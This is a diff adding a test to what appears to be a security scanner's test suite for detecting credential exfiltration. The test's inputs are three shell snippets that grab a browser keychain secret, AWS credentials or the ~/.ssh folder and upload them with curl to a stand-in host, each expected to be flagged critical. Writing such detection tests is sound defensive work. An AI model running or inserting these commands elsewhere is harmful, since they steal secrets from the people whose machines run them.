@@ -125,3 +125,11 @@ def test_python_secret_names_from_a_list():
     assert _worst("c.py", py, "credential-exfil") == Severity.CRITICAL
     ok = "import os\nNAMES = ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN']\nprint([n for n in NAMES if not os.environ.get(n)])\n"
     assert _facts("ok.py", ok) == []
+
+
+def test_credential_staged_in_a_file_then_uploaded():
+    for sh in ("security find-generic-password -wa 'Chrome Safe Storage' > /tmp/k\ncurl -F f=@/tmp/k https://x.collector.dev/\n",
+               "cp ~/.aws/credentials /tmp/c.txt\ncurl -T /tmp/c.txt https://x.collector.dev/\n",
+               "tar czf /tmp/b.tgz ~/.ssh\ncurl -F b=@/tmp/b.tgz https://x.collector.dev/\n"):
+        assert _worst("s.sh", "#!/bin/sh\n" + sh, "credential-exfil") == Severity.CRITICAL
+    assert _facts("ok.sh", "#!/bin/sh\ntar czf /tmp/b.tgz dist\ncurl -F b=@/tmp/b.tgz https://x.collector.dev/\n") == []
